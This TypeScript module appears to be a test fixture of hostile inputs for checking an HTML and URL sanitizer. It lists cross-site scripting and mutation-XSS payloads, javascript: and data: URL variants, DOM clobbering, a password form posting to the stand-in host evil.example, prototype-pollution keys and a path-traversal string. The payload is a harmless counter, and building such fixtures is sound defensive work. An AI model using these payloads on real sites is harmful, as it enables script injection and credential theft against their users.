/** The script of every attack: counts the attacks that worked. */
export const run = 'window.hacked=(window.hacked||0)+1';
const evil = 'https://evil.example';
/** The host of pictures that content may use. */
export const pictureHost = 'https://pictures.example';

const overlay = 'position:fixed;inset:0;z-index:99999;background:red';

/** Markup for every place that takes HTML. */
export const hostileMarkup: readonly string[] = [
  `<script>${run}</script><script src="${evil}/x.js"></script><scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}"><img src="/x.png" onload=${run}><body onload="${run}">`,
  `<p onclick="${run}" onmouseover=${run} onpointerenter="${run}">Hover</p><details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}"><textarea autofocus onfocus="${run}"></textarea><select onfocus=${run} autofocus>`,
  `<style>@keyframes x{}*{animation:x}body{display:none}@import "${evil}/x.css";</style><b onanimationstart="${run}">x</b>`,
  `<div style="${overlay}">Covered</div><a href="${evil}" style="${overlay};background:url(${evil}/x)">All of it</a>`,
  `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text y="9">x</text></a><use href="data:image/svg+xml,<svg onload='${run}'/>"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><img src=x onerror="${run}"></template>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<a href="javascript:${run}">1</a><a href="JaVa&#9;ScRiPt:${run}">2</a><a href="&#106;avascript&colon;${run}">3</a><a href="data:text/html,<script>${run}</script>">4</a><a href=" \u0001vbscript:x">5</a><a href="//evil.example">6</a>`,
  `<iframe src="${evil}" srcdoc="<script>parent.hacked=1</script>"></iframe><object data="javascript:${run}"></object><embed src="${evil}/x.swf"><frame src="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/"><link rel="stylesheet" href="${evil}/x.css"><link rel="prefetch" href="${evil}">`,
  `<form action="${evil}"><input name="password"><button formaction="javascript:${run}">Sign in</button></form><video src=x onerror="${run}" poster="${evil}/p.png"><audio src onerror=${run}>`,
  `<table background="${evil}/x.png"><tr><td colspan="99999" rowspan="99999">x</td></tr></table><ol start="99999999"><li>x</li></ol><img src="${pictureHost}/wide.png" width="99999" height="99999" srcset="${evil}/2.png 2x">`,
  `<a id="root" name="main" class="fixed inset-0 z-50 bg-ink" target="_top">Clobbered</a><p id="page-data" class="hidden">x</p><img name="cookie" src="${pictureHost}/a.png">`,
  `<img src="https://pictures.example;script-src/x.png"><img src="https://evil.example,default-src/x.png"><img src="https://*/x.png"><img src="https://a:b@evil.example/x.png">`,
  `<pre>${'W'.repeat(3_000)}</pre><p>${'W'.repeat(10_000)}</p><table><tr>${`<td>${'x'.repeat(99)}</td>`.repeat(30)}</tr></table>${'<blockquote>'.repeat(200)}deep`,
  `<p>Open <b>bold <a href="https://example.org">link <h2>never closed</p></div></div></main></body></html><footer>Mine</footer>`,
  `<p>Text</p><!-- <p>swallowed`,
  `<p>Text</p><textarea><p>swallowed`,
  `<p>Text</p><script>swallowed`,
  `<p>Text</p><plaintext><p>swallowed`,
  `<p>Text</p><img alt="swallowed ><p>`,
];

/** Text for every place that takes a line of it. */
export const hostileTexts: readonly string[] = [
  `</title></head><script>${run}</script>`,
  `</script><script>${run}</script><!--<script>`,
  `"><img src=x onerror="${run}"><svg/onload=${run}>`,
  `' onfocus='${run}' autofocus='`,
  `&lt;script&gt;${run}&lt;/script&gt;&#x3C;img src=x onerror=${run}&#x3E;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `<<b>script>${run}<</b>/script>`,
  `]]><![CDATA[<x/>]]></entry></feed><?xml version="2.0"?>`,
  `x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected;x=,\\n`,
  `\u202e\u2066Reversed \u202d\u200f and never closed`,
  `Z${'\u0335\u0321\u034d\u0489\u0e47'.repeat(40)}algo ${'\u{1f469}\u200d'.repeat(30)}`,
  'W'.repeat(10_000),
  `a\u0000b\u0007c\u001b[31md\u007fe\u0085f\ufffeg\uffffh\u2028i\u2029j\ufeffk`,
  `half \ud83d a character \udc00`,
  '__proto__',
  'constructor',
  'toString',
  '{{constructor.constructor("alert(1)")()}} <%= 7 %> %00 %2e%2e/',
  '../../../etc/passwd?x=1&y=2#z',
  'javascript:window.hacked=1',
];

/** Addresses for every place that takes one; the last ones are harmless, and shown with hostile text. */
export const hostileAddresses: readonly unknown[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` \u0001javascript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x.png`,
  `/\\evil.example/x.png`,
  `https:evil.example`,
  `https://evil.example;script-src/x.png`,
  `https://evil.example;sandbox/x.png`,
  `https://*/x.png`,
  `https://name:word@evil.example/x.png`,
  `https://example.org/"onmouseover="${run}`,
  'blob:https://evil.example/1',
  { url: `javascript:${run}` },
  [[`javascript:${run}`]],
  `${pictureHost}/a,.png,`,
  `${pictureHost}/b.png?x='onerror='${run}&y=%22%3E`,
  'https://www.youtube.com/embed/aqz-KE-bpKQ',
  'https://www.youtube.com/embed/%22%3E%3Csvg/onload',
];
